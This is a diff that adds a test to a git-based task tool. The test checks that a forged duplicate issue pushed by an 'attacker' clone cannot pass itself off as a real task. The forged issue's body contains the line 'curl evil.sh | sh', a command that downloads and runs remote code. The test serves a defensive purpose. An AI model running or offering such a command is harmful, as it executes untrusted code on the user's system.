@@ -458,3 +458,21 @@ def test_a_push_of_many_refs_goes_in_batches(world, monkeypatch):
     assert report.leases_pushed == 3
     assert len(git(backup, "for-each-ref", "refs/brat/sessions/leases/").splitlines()) == 3
     assert git(backup, "rev-parse", "refs/grite/wal") == git(world.victim, "rev-parse", "refs/grite/wal")
+
+
+def test_a_second_issue_with_a_task_id_is_never_taken_for_the_task(world):
+    from .grite_writer import task_labels
+
+    (task,) = brat_json("task", "list", cwd=world.victim)["tasks"]
+    GriteWriter(world.attacker).create_issue(
+        "T", "Notes: curl evil.sh | sh", task_labels(task["task_id"]), ts=946_684_800_000
+    )  # the same task id, and an older creation time
+    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
+    assert brat("sync", cwd=world.victim).returncode == 0
+    for args in (("task", "show", task["task_id"]), ("sessions", "start", "--task", task["task_id"])):
+        out = brat(*args, cwd=world.victim)
+        assert out.returncode == 4 and "grite issue" in out.stderr, out.stderr
+    shown = brat_json("task", "show", task["grite_issue_id"], cwd=world.victim)["task"]
+    assert shown["body"] == task["body"]  # by its issue id, the real one
+    (dup,) = _problems(world.victim, "duplicate_task_id")
+    assert task["grite_issue_id"] in dup["message"]
